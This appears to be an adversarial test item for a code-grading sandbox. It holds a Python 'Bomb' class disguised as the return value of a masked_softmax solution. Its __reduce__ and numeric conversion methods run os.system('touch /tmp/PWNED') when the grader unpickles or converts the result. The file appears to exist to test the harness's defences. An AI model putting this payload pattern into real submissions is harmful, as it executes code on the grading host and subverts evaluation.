# ATTACK | tries: an object that runs a command where it is unpickled | must: zero | may: failed raised bad_return crashed timed_out out_of_memory missing not_attempted
import os
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/PWNED",)
    __array__ = __float__ = __index__ = lambda self, *a: os.system("touch /tmp/PWNED")
def masked_softmax(X, valid_lens):
    return Bomb()
